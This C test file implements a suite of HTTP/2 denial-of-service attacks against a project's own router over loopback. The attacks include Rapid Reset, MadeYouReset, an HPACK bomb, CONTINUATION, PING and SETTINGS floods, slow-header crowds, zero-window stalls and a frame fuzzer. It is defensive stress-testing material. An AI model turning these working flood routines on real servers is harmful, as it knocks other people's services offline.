/* tests/attack/attacks.c -- see attacks.h. */
#include "attacks.h"

#include <arpa/inet.h>
#include <errno.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <unistd.h>

#include "kv/clock.h"
#include "victim.h"

#include "program.h"

enum { CROWD_MAX = 4000, BURST = 100, BLOCK_BYTES = 400000, FRAME_BYTES = 16384 };

/* ---- connections -------------------------------------------------------------------------------------------------- */

static bool is_time_left(const struct attacker *attacker)
{
    return kv_clock_ms() < attacker->until_ms;
}

static int open_socket(struct attacker *attacker, int receive_bytes)
{
    struct sockaddr_in from = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(0x7f000100 + attacker->index)};
    struct sockaddr_in to = {
        .sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK), .sin_port = htons(attacker->port)};
    int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0), on = 1;
    if (fd < 0)
        return -1;
    setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &on, sizeof(on));
    setsockopt(fd, IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, &on, sizeof(on));
    if (receive_bytes > 0)
        setsockopt(fd, SOL_SOCKET, SO_RCVBUF, &receive_bytes, sizeof(receive_bytes));
    if (bind(fd, (struct sockaddr *)&from, sizeof(from)) != 0 || connect(fd, (struct sockaddr *)&to, sizeof(to)) != 0) {
        close(fd);
        usleep(1000);
        return -1;
    }
    attacker->connections++;
    return fd;
}

/* Without a FIN that waits: thousands of connections come and go. */
static void close_socket(int *fd)
{
    struct linger at_once = {1, 0};
    if (*fd < 0)
        return;
    setsockopt(*fd, SOL_SOCKET, SO_LINGER, &at_once, sizeof(at_once));
    close(*fd);
    *fd = -1;
}

/* Everything that has come is thrown away. False: the router has closed. */
static bool read_away(int fd)
{
    static __thread uint8_t space[65536];
    ssize_t got;
    while ((got = recv(fd, space, sizeof(space), MSG_DONTWAIT)) > 0)
        ;
    return got < 0 && errno == EAGAIN;
}

/* Empties `out`. False: the router has closed, or time is over. A deaf client does not read to be heard. */
static bool push(struct attacker *attacker, int fd, struct kv_buf *out, bool deaf)
{
    size_t sent = 0;
    while (sent < out->bytes && is_time_left(attacker)) {
        struct pollfd poller = {.fd = fd, .events = POLLOUT};
        ssize_t put = send(fd, out->data + sent, out->bytes - sent, MSG_NOSIGNAL | MSG_DONTWAIT);
        if (put > 0)
            sent += (size_t)put;
        else if (errno != EAGAIN || (!deaf && !read_away(fd)))
            break;
        else
            poll(&poller, 1, 5);
    }
    bool all = sent == out->bytes;
    out->bytes = 0;
    return all;
}

/* One conversation after the other: `next` fills `out` with more of it, from stream `*stream` on. */
typedef void (*attack_next)(struct attacker *attacker, struct kv_buf *out, uint32_t *stream);

static void converse(struct attacker *attacker, attack_next next, bool deaf)
{
    struct kv_buf out = {0};
    while (is_time_left(attacker)) {
        uint32_t stream = 1;
        int fd = open_socket(attacker, 0);
        if (fd < 0)
            continue;
        out.bytes = 0;
        hello(&out);
        frame32(&out, WINDOW_UPDATE, 0, 1u << 30);
        while (push(attacker, fd, &out, deaf) && (deaf || read_away(fd)) && stream < 1u << 30)
            next(attacker, &out, &stream);
        attacker->cut += is_time_left(attacker);
        close_socket(&fd);
    }
    kv_buf_free(&out);
}

/* ---- cancelled requests ------------------------------------------------------------------------------------------- */

static void reset_burst(struct attacker *attacker, struct kv_buf *out, uint32_t *stream, const char *path)
{
    for (unsigned i = 0; i < BURST; i++, *stream += 2) {
        request(out, "GET", path, END_STREAM | END_HEADERS, *stream);
        frame32(out, RST_STREAM, *stream, 8);
    }
    attacker->units += BURST;
}

static void next_reset(struct attacker *attacker, struct kv_buf *out, uint32_t *stream)
{
    reset_burst(attacker, out, stream, "/" ATTACK_KEY_MIDDLE);
}

/* A line that costs the shards more than most. */
static void next_listing_reset(struct attacker *attacker, struct kv_buf *out, uint32_t *stream)
{
    reset_burst(attacker, out, stream, "/keys?limit=1000");
}

static void run_listing_reset(struct attacker *attacker)
{
    converse(attacker, next_listing_reset, false);
}

static void run_rapid_reset(struct attacker *attacker)
{
    converse(attacker, next_reset, false);
}

static void next_fault(struct attacker *attacker, struct kv_buf *out, uint32_t *stream)
{
    for (unsigned i = 0; i < BURST; i++, *stream += 2) {
        request(out, "GET", "/" ATTACK_KEY_MIDDLE, END_STREAM | END_HEADERS, *stream);
        frame32(out, WINDOW_UPDATE, *stream, 0);
    }
    attacker->units += BURST;
}

static void run_made_you_reset(struct attacker *attacker)
{
    converse(attacker, next_fault, false);
}

/* ---- the abort of issue #1951 ------------------------------------------------------------------------------------- */

/* Waits for so much. */
static void read_some(int fd, size_t bytes)
{
    static __thread uint8_t space[65536];
    struct pollfd poller = {.fd = fd, .events = POLLIN};
    while (bytes > 0 && poll(&poller, 1, 300) == 1) {
        ssize_t got = recv(fd, space, bytes < sizeof(space) ? bytes : sizeof(space), 0);
        if (got <= 0)
            return;
        bytes -= (size_t)got;
    }
}

/* Asks for more than it reads. Whenever the router's socket has room again, it writes 80 KB, which in the small segments of this
 * connection need more than that room: the write stays unfinished, with the ends of some answers in it. Their windows are closed
 * and opened meanwhile. */
static void ask_for_more_than_fits(struct attacker *attacker, int fd)
{
    struct kv_buf out = {0};
    uint32_t stream = 1;
    bool open = true;
    hello(&out);
    frame32(&out, WINDOW_UPDATE, 0, 1u << 30);
    for (unsigned round = 0; round < 100 && open; round++) {
        for (unsigned i = 0; i < (round == 0 ? BURST : 2); i++, stream += 2)
            request(&out, "GET", "/" ATTACK_KEY_FRAME, END_STREAM | END_HEADERS, stream);
        push(attacker, fd, &out, true);
        usleep(round == 0 ? 50000 : 5000);
        read_some(fd, ATTACK_FRAME_BYTES);
        window_setting(&out, 0);
        window_setting(&out, 65535);
        for (uint32_t id = stream > 200 ? stream - 200 : 1; id < stream && attacker->index % 2 == 0; id += 2)
            frame32(&out, WINDOW_UPDATE, id, 1);
        attacker->units += 80;
        open = push(attacker, fd, &out, true);
    }
    kv_buf_free(&out);
}

static void run_abort(struct attacker *attacker)
{
    while (is_time_left(attacker)) {
        int fd = open_socket(attacker, 1);
        if (fd < 0)
            continue;
        ask_for_more_than_fits(attacker, fd);
        attacker->cut += is_time_left(attacker) && !read_away(fd);
        close_socket(&fd);
    }
}

/* ---- header blocks ------------------------------------------------------------------------------------------------ */

/* Fields of one byte each; PUT: nothing ends the request. */
static void next_bomb(struct attacker *attacker, struct kv_buf *out, uint32_t *stream)
{
    struct kv_buf block = fields("PUT", "/bomb");
    memset(kv_buf_reserve(&block, BLOCK_BYTES), 0x90, BLOCK_BYTES);
    block.bytes += BLOCK_BYTES;
    for (size_t at = 0; at < block.bytes; at += FRAME_BYTES) {
        size_t bytes = block.bytes - at < FRAME_BYTES ? block.bytes - at : FRAME_BYTES;
        frame(out, at == 0 ? HEADERS : CONTINUATION, at + bytes == block.bytes ? END_HEADERS : 0, *stream,
              raw(block.data + at, bytes));
    }
    kv_buf_free(&block);
    *stream += 2;
    attacker->units++;
}

static void run_header_bomb(struct attacker *attacker)
{
    converse(attacker, next_bomb, false);
}

static void next_continuation(struct attacker *attacker, struct kv_buf *out, uint32_t *stream)
{
    if (*stream == 1)
        request(out, "GET", "/x", END_STREAM, (*stream)++);
    for (unsigned i = 0; i < 1000; i++)
        frame(out, CONTINUATION, 0, 1, raw(NULL, 0));
    attacker->units += 1000;
}

static void run_continuations(struct attacker *attacker)
{
    converse(attacker, next_continuation, false);
}

/* ---- floods ------------------------------------------------------------------------------------------------------- */

static void next_pings(struct attacker *attacker, struct kv_buf *out, uint32_t *stream)
{
    (void)stream;
    for (unsigned i = 0; i < 1000; i++)
        frame(out, PING, 0, 0, raw("12345678", 8));
    attacker->units += 1000;
}

static void run_pings_unread(struct attacker *attacker)
{
    converse(attacker, next_pings, true);
}

static void next_small(struct attacker *attacker, struct kv_buf *out, uint32_t *stream)
{
    (void)stream;
    for (unsigned i = 0; i < 5000; i++)
        frame(out, PING, 1, 0, raw("12345678", 8));
    attacker->units += 5000;
}

static void run_starvation(struct attacker *attacker)
{
    converse(attacker, next_small, false);
}

static void next_unknown(struct attacker *attacker, struct kv_buf *out, uint32_t *stream)
{
    (void)stream;
    for (unsigned i = 0; i < 1000; i++)
        frame(out, 10 + i % 200, 0xff, i % 7, raw("junk", i % 5));
    attacker->units += 1000;
}

static void run_unknown_frames(struct attacker *attacker)
{
    converse(attacker, next_unknown, false);
}

static void next_settings(struct attacker *attacker, struct kv_buf *out, uint32_t *stream)
{
    (void)stream;
    for (unsigned i = 0; i < 500; i++)
        window_setting(out, i);
    attacker->units += 500;
}

static void run_settings_unread(struct attacker *attacker)
{
    converse(attacker, next_settings, true);
}

/* Requests without a good token, as fast as they are refused. */
static void next_wrong_token(struct attacker *attacker, struct kv_buf *out, uint32_t *stream)
{
    struct kv_buf block = fields("GET", "/x");
    block.data[block.bytes - 1] ^= 1;
    for (unsigned i = 0; i < BURST / 4; i++, *stream += 2)
        frame(out, HEADERS, END_STREAM | END_HEADERS, *stream, kv_buf_peek(&block));
    kv_buf_free(&block);
    attacker->units += BURST / 4;
}

static void run_wrong_tokens(struct attacker *attacker)
{
    converse(attacker, next_wrong_token, false);
}

/* ---- crowds: connections that hold something and say little -------------------------------------------------------- */

typedef void (*crowd_begin)(struct kv_buf *out);
typedef void (*crowd_more)(struct kv_buf *out, uint64_t turn);

static int crowd_join(struct attacker *attacker, crowd_begin begin)
{
    struct kv_buf out = {0};
    int fd = open_socket(attacker, 0);
    if (fd < 0)
        return -1;
    begin(&out);
    if (!push(attacker, fd, &out, true))
        close_socket(&fd);
    attacker->units += fd >= 0;
    kv_buf_free(&out);
    return fd;
}

static void crowd_speak(struct attacker *attacker, int *fd, crowd_more more, uint64_t turn)
{
    struct kv_buf out = {0};
    if (more != NULL)
        more(&out, turn);
    struct pollfd poller = {.fd = *fd};
    bool open = poll(&poller, 1, 0) == 0 &&
                (out.bytes == 0 || send(*fd, out.data, out.bytes, MSG_NOSIGNAL | MSG_DONTWAIT) > 0 || errno == EAGAIN);
    kv_buf_free(&out);
    if (open)
        return;
    close_socket(fd);
    attacker->cut++;
}

/* `count` at once; each says something every 500 ms. */
static void crowd(struct attacker *attacker, unsigned count, crowd_begin begin, crowd_more more)
{
    static __thread int fds[CROWD_MAX];
    for (unsigned i = 0; i < count; i++)
        fds[i] = -1;
    for (uint64_t turn = 0; is_time_left(attacker); turn++) {
        uint64_t begin_ms = kv_clock_ms();
        for (unsigned i = 0; i < count && is_time_left(attacker); i++) {
            if (fds[i] < 0)
                fds[i] = crowd_join(attacker, begin);
            else
                crowd_speak(attacker, &fds[i], more, turn);
        }
        uint64_t took_ms = kv_clock_ms() - begin_ms;
        if (took_ms < 500)
            usleep((useconds_t)(500 - took_ms) * 1000);
    }
    for (unsigned i = 0; i < count; i++)
        close_socket(&fds[i]);
}

static void begin_nothing(struct kv_buf *out)
{
    (void)out;
}

static void run_connections(struct attacker *attacker)
{
    crowd(attacker, CROWD_MAX, begin_nothing, NULL);
}

static void begin_headers(struct kv_buf *out)
{
    kv_buf_append(out, kv_slice_text("GET /x HTTP/1.1\r\nHost: "));
}

static void more_headers(struct kv_buf *out, uint64_t turn)
{
    (void)turn;
    kv_buf_append(out, kv_slice_text("x"));
}

static void run_slow_headers(struct attacker *attacker)
{
    crowd(attacker, CROWD_MAX / 2, begin_headers, more_headers);
}

/* A hundred uploads of a byte now and then, each with as many header bytes as are allowed. */
static void begin_uploads(struct kv_buf *out)
{
    hello(out);
    for (uint32_t i = 0; i < BURST; i++)
        request(out, "PUT", "/" ATTACK_KEY_MIDDLE "-up", END_HEADERS, 2 * i + 1);
}

static void more_uploads(struct kv_buf *out, uint64_t turn)
{
    (void)turn;
    for (uint32_t i = 0; i < BURST; i++)
        frame(out, DATA, 0, 2 * i + 1, raw("x", 1));
}

static void run_held_uploads(struct attacker *attacker)
{
    crowd(attacker, CROWD_MAX / 2, begin_uploads, more_uploads);
}

static void begin_large_headers(struct kv_buf *out)
{
    static uint8_t value[14000];
    struct kv_buf block = {0};
    memset(value, 'x', sizeof(value));
    hello(out);
    for (uint32_t i = 0; i < BURST; i++) {
        block = fields("PUT", "/x");
        for (unsigned field = 0; field < 2; field++) {
            kv_buf_append(&block, raw("\x00\x01z\x7f\xb1\x6c", 6)); /* 127 + 0x31 + 0x6c << 7 */
            kv_buf_append(&block, raw(value, sizeof(value)));
        }
        frame(out, HEADERS, 0, 2 * i + 1, raw(block.data, FRAME_BYTES));
        frame(out, CONTINUATION, END_HEADERS, 2 * i + 1, raw(block.data + FRAME_BYTES, block.bytes - FRAME_BYTES));
        kv_buf_free(&block);
    }
}

static void run_held_headers(struct attacker *attacker)
{
    crowd(attacker, 400, begin_large_headers, NULL);
}

/* Answers that nobody takes: the windows of their streams are closed. */
static void begin_window0(struct kv_buf *out)
{
    hello(out);
    window_setting(out, 0);
    for (uint32_t i = 0; i < BURST; i++)
        request(out, "GET", "/" ATTACK_KEY_LARGE, END_STREAM | END_HEADERS, 2 * i + 1);
}

static void more_pings(struct kv_buf *out, uint64_t turn)
{
    (void)turn;
    frame(out, PING, 0, 0, raw("12345678", 8)); /* keeps an idle timeout away */
}

static void run_window0(struct attacker *attacker)
{
    crowd(attacker, 200, begin_window0, more_pings);
}

/* Answers that stay in the socket. */
static void begin_unread(struct kv_buf *out)
{
    hello(out);
    frame32(out, WINDOW_UPDATE, 0, 1u << 30);
    window_setting(out, 1u << 30);
    for (uint32_t i = 0; i < BURST; i++)
        request(out, "GET", "/" ATTACK_KEY_LARGE, END_STREAM | END_HEADERS, 2 * i + 1);
}

static void run_unread(struct attacker *attacker)
{
    crowd(attacker, 200, begin_unread, NULL);
}

/* ---- bodies ------------------------------------------------------------------------------------------------------- */

/* Large bodies that never end, on a hundred streams at once. */
static void next_bodies(struct attacker *attacker, struct kv_buf *out, uint32_t *stream)
{
    static const uint8_t content[FRAME_BYTES];
    if (*stream == 1) {
        for (uint32_t i = 0; i < BURST; i++)
            request(out, "PUT", "/" ATTACK_KEY_MIDDLE "-up", END_HEADERS, 2 * i + 1);
        *stream = 2 * BURST + 1;
    }
    for (uint32_t i = 0; i < BURST; i++)
        frame(out, DATA, 0, 2 * i + 1, raw(content, sizeof(content)));
    attacker->units += BURST;
}

static void run_bodies(struct attacker *attacker)
{
    converse(attacker, next_bodies, false);
}

/* ---- everything, at random ---------------------------------------------------------------------------------------- */

static uint64_t draw(struct attacker *attacker)
{
    attacker->seed = attacker->seed * 6364136223846793005u + 1442695040888963407u;
    return attacker->seed >> 33;
}

static void run_program(struct attacker *attacker, int fd)
{
    uint8_t input[1024];
    struct kv_buf out = {0};
    size_t bytes = 16 + draw(attacker) % (sizeof(input) - 16);
    for (size_t i = 0; i < bytes; i++)
        input[i] = (uint8_t)draw(attacker);
    struct program program = {.left = kv_slice(input, bytes), .out = &out, .next_stream = 1};
    bool open = true;
    hello(&out);
    while (open && program_step(&program)) {
        attacker->units++;
        if (program.nap_ms == 0 && program.read_bytes == 0)
            continue;
        open = push(attacker, fd, &out, program.nap_ms > 2);
        usleep(500 * program.nap_ms);
        open = open && (program.read_bytes == 0 || read_away(fd));
    }
    if (open)
        push(attacker, fd, &out, false);
    kv_buf_free(&out);
}

static void run_fuzz(struct attacker *attacker)
{
    while (is_time_left(attacker)) {
        int fd = open_socket(attacker, draw(attacker) % 2 == 0 ? 32768 : 0);
        if (fd < 0)
            continue;
        run_program(attacker, fd);
        attacker->cut += !read_away(fd);
        close_socket(&fd);
    }
}

/* ---- the table ---------------------------------------------------------------------------------------------------- */

const struct attack attacks[] = {
    {"abort", "windows opened on streams that are written out (#1951)", 2, run_abort, true},
    {"rapid-reset", "requests that are reset at once (CVE-2023-44487)", 2, run_rapid_reset, false},
    {"listing-reset", "pages of 1,000 keys that are reset at once", 2, run_listing_reset, false},
    {"made-you-reset", "requests that make the server reset (CVE-2025-8671)", 2, run_made_you_reset, false},
    {"header-bomb", "400 KB of one-byte header fields (HPACK bomb)", 2, run_header_bomb, false},
    {"continuations", "empty CONTINUATION frames without end", 2, run_continuations, false},
    {"pings-unread", "PINGs whose answers nobody reads (CVE-2019-9512)", 2, run_pings_unread, false},
    {"settings-unread", "SETTINGS whose answers nobody reads (CVE-2019-9515)", 2, run_settings_unread, false},
    {"starvation", "small frames as fast as they go (read starvation)", 2, run_starvation, false},
    {"unknown-frames", "frames of unknown types (stderr flood)", 2, run_unknown_frames, false},
    {"window0", "200 x 100 answers with closed windows", 1, run_window0, false},
    {"unread", "200 x 100 answers that stay in the socket", 1, run_unread, false},
    {"slow-headers", "2,000 headers of two bytes a second", 1, run_slow_headers, false},
    {"held-uploads", "2,000 x 100 uploads of two bytes a second", 1, run_held_uploads, false},
    {"held-headers", "400 x 100 requests with 28 KB of headers, unfinished", 1, run_held_headers, false},
    {"bodies", "200 bodies without an end, as fast as they go", 2, run_bodies, false},
    {"connections", "8,000 silent connections", 2, run_connections, false},
    {"wrong-tokens", "requests with a wrong token as fast as they go", 2, run_wrong_tokens, false},
    {"fuzz", "random conversations of mostly valid frames", 2, run_fuzz, false},
    {NULL, NULL, 0, NULL, false},
};
